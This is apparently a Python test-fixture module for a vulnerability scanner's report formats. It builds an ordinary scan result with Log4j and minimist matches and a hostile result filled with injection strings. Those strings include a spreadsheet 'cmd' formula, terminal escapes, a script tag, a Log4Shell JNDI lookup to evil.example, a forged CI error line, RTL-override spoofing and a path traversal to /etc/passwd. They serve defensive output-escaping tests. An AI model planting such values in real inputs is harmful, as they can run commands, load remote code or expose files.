"""Two results that every format is tried with: an ordinary one, and one in which every text is hostile."""

from dataclasses import replace

from rightshift.assess.baseline import Baseline, Said
from rightshift.documents import scan
from rightshift.model.advisory import Epss, Kev, Match, Part
from rightshift.model.inventory import Gap, Inventory, Layer, Subject
from rightshift.model.known import Known
from rightshift.model.package import Distro, Package, SourcePackage
from rightshift.report.result import EndOfLife, FeedUsed, Gate, Result, Suppressed

DEBIAN = Distro("debian", "12", name="Debian GNU/Linux 12")
LIBC = Package(
    ecosystem="deb",
    name="libc6",
    version="2.36-9",
    arch="amd64",
    distro=DEBIAN,
    source=SourcePackage("glibc", "2.36-9"),
    locations=("var/lib/dpkg/status",),
    layer=0,
)
LOG4J = Package(
    ecosystem="maven",
    name="org.apache.logging.log4j:log4j-core",
    version="2.14.1",
    evidence="pom.properties",
    licenses=("Apache-2.0",),
    locations=("app/shop.jar!/BOOT-INF/lib/log4j-core-2.14.1.jar",),
    layer=1,
)
LOG4J_AGAIN = replace(LOG4J, locations=("opt/agent.jar",))
MINIMIST = Package(
    ecosystem="npm",
    name="@scope/minimist",
    version="1.2.0",
    state="locked",
    dev=True,
    licenses=("MIT", "a licence of our own"),
    locations=("app/package-lock.json",),
    layer=1,
)
SAFE = Package(ecosystem="pypi", name="flask", version="3.1.0", locations=("usr/lib/python3/flask/METADATA",), layer=1)

LOG4SHELL = Match(
    package=LOG4J,
    id="CVE-2021-44228",
    aliases=("GHSA-jfh8-c2jp-5v3q",),
    records=("GHSA-jfh8-c2jp-5v3q",),
    rule="range of GHSA-jfh8-c2jp-5v3q: 2.14.1 lies in >=2.13.0 <2.15.0",
    certain=Known.YES,
    fixed=("2.15.0",),
    severity="critical",
    vector="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H",
    summary="Remote code injection in Log4j",
    cwes=(20, 400, 502, 917),
    kev=Kev("2021-12-10", ransomware=True),
    epss=Epss(0.944, "v2026.06.15", "2026-08-01"),
    published="2021-12-10T00:40:56Z",
    references=("https://logging.apache.org/security.html",),
    evidence=(Part("threat", 42, "known ransomware use"), Part("exposure", 0, "run time is unknown", ("running",))),
    points=47,
)
MATCHES = (
    LOG4SHELL,
    replace(LOG4SHELL, package=LOG4J_AGAIN),
    Match(
        package=MINIMIST,
        id="GHSA-vh95-rmgr-6w4m",
        aliases=("CVE-2020-7598",),
        records=("GHSA-vh95-rmgr-6w4m",),
        rule="versions of GHSA-vh95-rmgr-6w4m: 1.2.0 is listed",
        certain=Known.UNKNOWN,
        fixed=("1.2.3", "0.2.1"),
        severity="medium",
        summary="Prototype Pollution in minimist",
        epss=Epss(0.0004),
        points=6,
    ),
    Match(
        package=LIBC,
        id="DEBIAN-CVE-2010-4756",
        aliases=("CVE-2010-4756",),
        records=("DEBIAN-CVE-2010-4756",),
        rule="range of DEBIAN-CVE-2010-4756: 2.36-9 lies in >=0",
        certain=Known.YES,
        ignored=True,
        severity="unknown",
        points=2,
    ),
)
ACCEPTED = replace(MATCHES[3], id="CVE-2019-1010022")
NOT_AFFECTED = replace(MATCHES[2], id="CVE-2021-44906")

ORDINARY = Result(
    document=scan.of(
        Subject(kind="image", name="shop/web:1.4", id="sha256:" + "a" * 64, os="linux", architecture="amd64"),
        Inventory(
            packages=(LIBC, LOG4J, LOG4J_AGAIN, MINIMIST, SAFE),
            gaps=(Gap("srv/broken.jar", "jar: not a zip", "sha256:" + "c" * 64),),
            distro=DEBIAN,
            layers=(
                Layer("sha256:" + "b" * 64, size_bytes=30_000_000, created_by="FROM debian:12"),
                Layer("sha256:" + "c" * 64, size_bytes=2_000, created_by="COPY . /app"),
            ),
        ),
        created="2026-01-05T08:00:00Z",
        id="5f" * 16,
        catalogue="1",
    ),
    feed=FeedUsed(
        kind="starter", generation=7, lineage="ab12", built="2026-01-04T02:00:00Z", records=310, covers=4, packages=5
    ),
    end_of_life=EndOfLife(system=DEBIAN.name, last_day="2028-06-30", over=Known.NO),
    matches=MATCHES,
    suppressed=(
        Suppressed(match=ACCEPTED, by="ignore", reason="not reachable here", until="2026-06-30"),
        Suppressed(
            match=NOT_AFFECTED,
            by="vex",
            status="not_affected",
            justification="vulnerable_code_not_in_execute_path",
            reason="never called",
        ),
    ),
    gates=(Gate(condition="kev", matches=MATCHES[:2]), Gate(condition="severity>=high & fixable", matches=())),
)

EVIL = (
    "=cmd|'/C calc'!A1",
    "\x1b[31mred\x1b]0;title\x07\x9b2J",
    "<script>alert(1)</script>",
    "![x](https://evil.example/p.png) [a](https://evil.example) @everyone #1 `code` |cell|",
    "line\nbreak\r\n::error::forged\t",
    "\u202egnp.exe\u200b\ufeff",
    "half\ud800\udcff",
    "{0} {{ template }} ${jndi:ldap://evil.example/a}",
    "漢字" * 60,
    "../../etc/passwd",
)


def _hostile(at: int, evil: str) -> Match:
    package = Package(
        ecosystem="npm",
        name=evil,
        version=EVIL[at - 1],
        licenses=(evil,),
        locations=(evil + "/package.json",),
        source=SourcePackage(evil),
        layer=0,
    )
    return replace(
        LOG4SHELL, package=package, id=evil, aliases=(evil,), records=(evil,), rule=evil, fixed=(evil,), summary=evil,
        severity="medium" if at % 2 else "unknown", vector=evil, points=50 - at, references=(evil,),
        evidence=(Part(evil, 1, evil, (evil,)),), published=evil,
    )  # fmt: skip


def _hostile_result() -> Result:
    matches = [_hostile(at, evil) for at, evil in enumerate(EVIL)]
    document = scan.of(
        Subject(kind="directory", name="".join(EVIL[:8])),
        Inventory(
            packages=tuple(match.package for match in matches),
            gaps=tuple(Gap(evil, evil, evil) for evil in EVIL),
            distro=Distro(EVIL[0], EVIL[1], (EVIL[2],), EVIL[3], EVIL[4]),
            layers=(Layer(EVIL[1], created_by=EVIL[2]),),
        ),
        created="2026-01-05T08:00:00Z",
        id="5f" * 16,
        catalogue="1",
    )
    packages = scan.inventory(document).packages
    found = tuple(replace(match, package=package) for match, package in zip(matches, packages, strict=True))
    return Result(
        document=document,
        feed=FeedUsed(
            kind="built", generation=7, lineage=EVIL[1], built=EVIL[2], records=1, covers=len(packages),
            packages=len(packages), nothing_of=EVIL, unversioned=2,
        ),
        end_of_life=EndOfLife(system=EVIL[4], last_day="", over=Known.UNKNOWN),
        matches=found,
        suppressed=tuple(
            Suppressed(match=match, by="vex", status=evil, justification=evil, reason=evil, until=evil)
            for match, evil in zip(found, EVIL, strict=True)
        ),
        gates=(Gate(condition=EVIL[1], matches=found),),
    )  # fmt: skip


HOSTILE = _hostile_result()
BARE = replace(ORDINARY, feed=None, end_of_life=None, matches=(), suppressed=(), gates=())
"""Nothing was matched."""
COMPARED = replace(
    ORDINARY,
    baseline=Baseline(Said(match.package, match.id, match.aliases) for match in MATCHES[1:]),
    compared=("main.json",),
    matches=(replace(MATCHES[2], id="CVE-2026-1", aliases=(), points=60), *MATCHES),
)
"""Its first match is new, the others are known."""
